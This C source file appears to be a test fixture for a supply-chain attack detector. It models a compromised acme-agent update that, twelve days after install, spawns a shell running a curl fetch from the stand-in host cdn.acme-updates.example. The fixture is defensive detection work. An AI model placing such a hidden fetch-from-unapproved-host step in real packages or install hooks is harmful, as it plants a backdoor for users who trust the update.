/* SPDX-License-Identifier: Apache-2.0 */
#include "sample.h"

#include <supplychain/event.h>

#include <string.h>

/*
 * 2026-03-01T12:00:00Z: 20513 days after 1970-01-01 (56 years with 14 leap
 * days: 56 * 365 + 14 = 20454; January and February 2026 add 31 + 28 = 59),
 * times 86400, and half a day: 1772366400.
 */
#define NOON (INT64_C(1772366400) * SCHAIN_SECOND)
#define AT(seconds) (NOON + (int64_t)(seconds) * SCHAIN_SECOND)
#define DAYS 86400

static schain_signal signal_of(const char *name, uint32_t stage, int32_t weight, schain_time time,
                               const char *event, const char *text, uint32_t process)
{
	schain_signal signal = { 0 };

	signal.struct_size = sizeof signal;
	signal.name = schain_string_of(name);
	signal.stage = stage;
	signal.weight = weight;
	signal.occurrences = 1;
	signal.process = process;
	signal.time = time;
	signal.event = schain_string_of(event);
	signal.source = SCHAIN_STRING("auditd");
	signal.text = schain_string_of(text);
	signal.origin = SCHAIN_STRING("audit.log");
	return signal;
}

static void fill_signals(schain_signal *signals)
{
	signals[0] = signal_of("delivery.unsigned_package", SCHAIN_STAGE_DELIVERY, 6, AT(0), "package",
	                       "nobody verified where acme-agent 2.4.0 came from", 1);
	signals[1] = signal_of("write.program_path", SCHAIN_STAGE_WRITE, 1, AT(1), "file_write",
	                       "/usr/bin/acme-agent was written", 1);
	signals[1].occurrences = 2;
	signals[2] = signal_of("first_run.image", SCHAIN_STAGE_FIRST_RUN, 2, AT(120), "process_start",
	                       "acme-agent ran for the first time", 2);
	signals[3] = signal_of("child.shell", SCHAIN_STAGE_CHILD, 5, AT(12 * DAYS), "process_start",
	                       "acme-agent started sh", 3);
	signals[4] = signal_of("egress.unapproved_host", SCHAIN_STAGE_EGRESS, 10, AT(12 * DAYS + 2),
	                       "connection", "curl connected to cdn.acme-updates.example", 4);
	for (uint32_t i = 0; i < 5; i++) {
		static const char *const ids[] = { "1772366400.000:101", "1772366401.000:102",
			                           "1772366520.000:140", "1773403200.000:9001",
			                           "1773403202.000:9007" };

		signals[i].record = i == 4 ? 9007 : 101 + i;
		signals[i].line = 10 + i;
		signals[i].record_id = schain_string_of(ids[i]);
	}
}

static schain_verdict_process process_of(uint32_t role, uint64_t pid, uint32_t parent,
                                         schain_time time, const char *image,
                                         const char *command_line)
{
	schain_verdict_process process = { 0 };

	process.struct_size = sizeof process;
	process.role = role;
	process.pid = pid;
	process.parent = parent;
	process.time = time;
	process.image = schain_string_of(image);
	process.command_line = schain_string_of(command_line);
	process.user = SCHAIN_STRING("root");
	return process;
}

static void fill_chain(struct sample *sample)
{
	sample->processes[0] = process_of(SCHAIN_ROLE_INSTALLER, 412, UINT32_MAX, AT(0), "/usr/bin/dpkg",
	                                  "dpkg --unpack acme-agent_2.4.0_amd64.deb");
	sample->processes[1] = process_of(SCHAIN_ROLE_SUBJECT, 733, UINT32_MAX, AT(120),
	                                  "/usr/bin/acme-agent", "acme-agent --daemon");
	sample->processes[2] = process_of(SCHAIN_ROLE_CHILD, 801, 1, AT(12 * DAYS), "/usr/bin/dash",
	                                  "sh -c 'curl -s https://cdn.acme-updates.example/x'");
	sample->processes[2].distance = 1;
	sample->processes[3] = process_of(SCHAIN_ROLE_CHILD, 802, 2, AT(12 * DAYS + 1), "/usr/bin/curl",
	                                  "curl -s https://cdn.acme-updates.example/x");
	sample->processes[3].distance = 2;
	sample->files[0].struct_size = sizeof sample->files[0];
	sample->files[0].content = SCHAIN_CONTENT_ELF;
	sample->files[0].process = 1;
	sample->files[0].time = AT(1);
	sample->files[0].path = SCHAIN_STRING("/usr/bin/acme-agent");
	/* SHA-256 of the empty string, FIPS 180-4 example files. */
	sample->files[0].sha256 =
	        SCHAIN_STRING("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
	sample->files[0].signature = SCHAIN_STRING("unsigned");
	sample->files[1].struct_size = sizeof sample->files[1];
	sample->files[1].content = SCHAIN_CONTENT_SCRIPT;
	sample->files[1].process = 1;
	sample->files[1].time = AT(2);
	sample->files[1].path = SCHAIN_STRING("/usr/share/acme/hook.sh");
	sample->destinations[0].struct_size = sizeof sample->destinations[0];
	sample->destinations[0].port = 443;
	sample->destinations[0].protocol = 6;
	sample->destinations[0].connections = 3;
	sample->destinations[0].process = 4;
	sample->destinations[0].time = AT(12 * DAYS + 2);
	sample->destinations[0].host_name = SCHAIN_STRING("cdn.acme-updates.example");
	sample->destinations[0].address = SCHAIN_STRING("203.0.113.9");
	sample->destinations[0].judgement = SCHAIN_STRING("unapproved");
}

static void fill_advice(struct sample *sample)
{
	sample->gaps[0].struct_size = sizeof sample->gaps[0];
	sample->gaps[0].stage = SCHAIN_STAGE_EGRESS;
	sample->gaps[0].source = SCHAIN_STRING("dns");
	sample->gaps[0].text = SCHAIN_STRING("which names were asked for before the connection");
	sample->isolate[0] = SCHAIN_STRING("host build-7.example");
	sample->preserve[0] = SCHAIN_STRING("/usr/bin/acme-agent");
	sample->preserve[1] = SCHAIN_STRING("memory of process 733");
}

void sample_init(struct sample *sample)
{
	schain_verdict *verdict = &sample->verdict;

	memset(sample, 0, sizeof *sample);
	fill_signals(sample->signals);
	fill_chain(sample);
	fill_advice(sample);
	verdict->struct_size = sizeof *verdict;
	verdict->revision = 3;
	verdict->level = SCHAIN_LEVEL_MEDIUM;
	verdict->score = 6; /* -18 + 6 + 1 + 2 + 5 + 10 */
	verdict->confidence = 80;
	verdict->os = SCHAIN_OS_LINUX;
	verdict->is_final = 1;
	verdict->first_time = AT(0);
	verdict->last_time = AT(12 * DAYS + 2);
	for (size_t i = 0; i < 5; i++) {
		verdict->stages |= 1u << sample->signals[i].stage;
		verdict->stage_times[sample->signals[i].stage] = sample->signals[i].time;
	}
	verdict->id = SCHAIN_STRING("4f2a9c0d11e8b763");
	verdict->host = SCHAIN_STRING("build-7.example");
	verdict->product = SCHAIN_STRING("acme-agent");
	verdict->version = SCHAIN_STRING("2.4.0");
	verdict->previous_version = SCHAIN_STRING("2.3.1");
	verdict->installer = SCHAIN_STRING("/usr/bin/dpkg");
	verdict->technique = SCHAIN_STRING("T1195.002");
	verdict->strategy = SCHAIN_STRING("DET0309");
	verdict->analytic = SCHAIN_STRING("AN0863");
	verdict->explanation = SCHAIN_STRING("acme-agent was updated by dpkg, stayed silent for 12 days, "
	                                     "then started a shell that connected to a host nobody "
	                                     "approved.");
	verdict->signals = sample->signals;
	verdict->signal_count = 5;
	verdict->files = sample->files;
	verdict->file_count = 2;
	verdict->processes = sample->processes;
	verdict->process_count = 4;
	verdict->destinations = sample->destinations;
	verdict->destination_count = 1;
	verdict->gaps = sample->gaps;
	verdict->gap_count = 1;
	verdict->isolate = sample->isolate;
	verdict->isolate_count = 1;
	verdict->preserve = sample->preserve;
	verdict->preserve_count = 2;
}

int sink_write(void *context, const char *data, size_t size)
{
	struct sink *sink = context;

	sink->calls++;
	if (sink->stop_after && sink->calls > sink->stop_after)
		return 1;
	if (size >= sizeof sink->data - sink->length)
		return 1;
	memcpy(sink->data + sink->length, data, size);
	sink->length += size;
	sink->data[sink->length] = 0;
	return 0;
}
